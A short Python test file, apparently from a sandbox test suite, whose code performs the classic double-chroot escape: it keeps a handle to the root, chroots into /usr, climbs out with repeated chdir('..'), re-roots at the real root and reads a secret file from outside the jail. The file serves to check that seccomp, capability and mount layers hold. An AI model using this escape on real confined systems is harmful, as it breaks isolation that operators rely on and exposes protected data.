"""Leaves its root by a second chroot, beside which its working folder stays (chroot(2)).

layers: seccomp, capabilities, mounts
"""
from attack import *

outside = os.open("/", os.O_RDONLY)
os.chroot("/usr")
os.fchdir(outside)
for _ in range(64):
    os.chdir("..")
os.chroot(".")
with open(witness("FOLDER") + "/secret") as secret:
    through(secret.read().strip())
